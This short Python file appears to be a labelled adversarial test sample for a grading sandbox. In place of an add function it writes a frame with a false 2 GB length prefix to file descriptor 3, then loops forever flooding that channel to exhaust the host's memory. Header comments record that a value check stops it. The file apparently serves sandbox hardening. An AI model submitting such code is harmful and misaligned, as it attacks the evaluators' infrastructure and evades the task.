# tries: to fill the host's memory through the channel with frames that never end and sizes that are lies
# stopped by: values
# tests: calls check asserts
# verdict: wrong
import os

os.write(3, b"\x7f\xff\xff\xff" + b"x" * 60000)


def add(a, b):
    while True:
        os.write(3, b"\xff" * 65536)
